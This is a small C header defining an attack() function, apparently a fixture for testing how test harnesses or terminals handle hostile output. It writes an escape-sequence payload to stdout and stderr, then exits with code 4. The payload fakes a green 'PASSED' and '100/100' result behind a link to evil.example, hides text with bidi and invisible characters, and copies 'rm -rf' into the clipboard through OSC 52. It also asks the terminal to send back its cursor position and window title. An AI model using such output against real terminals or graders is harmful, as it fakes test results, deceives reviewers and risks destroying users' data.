#pragma once
#define ATTACK_START attack()
#include <stdio.h>
#include <unistd.h>
static void attack() {
    FILE* const streams[] = {stderr, stdout};
    for (FILE* stream : streams) {
        fputs("\x1b[2J\x1b[H\x1b[3J\x1b]0;title\x07\x1b]8;;http://evil.example/\x1b\\PASSED\x1b]8;;\x1b\\"
              "\x1b[?1049h\x1b[32m100/100\x1b[0m\x1b]52;c;cm0gLXJm\x07\x1bP$q\x1b\\\x1b[6n\x1b[21t"
              "\xc2\x9b" "31m\xc2\x9d" "0;c1\xc2\x9c \xe2\x80\xae" "001/001\xe2\x80\xac \xe2\x81\xa6hidden\xe2\x81\xa9 "
              "\x08\x08\x08\x7f\x0e\x0f\v\f\a\xe2\x80\x8b\xef\xbb\xbf\xf3\xa0\x81\x81\n",
              stream);
        fflush(stream);
    }
    _exit(4);
}
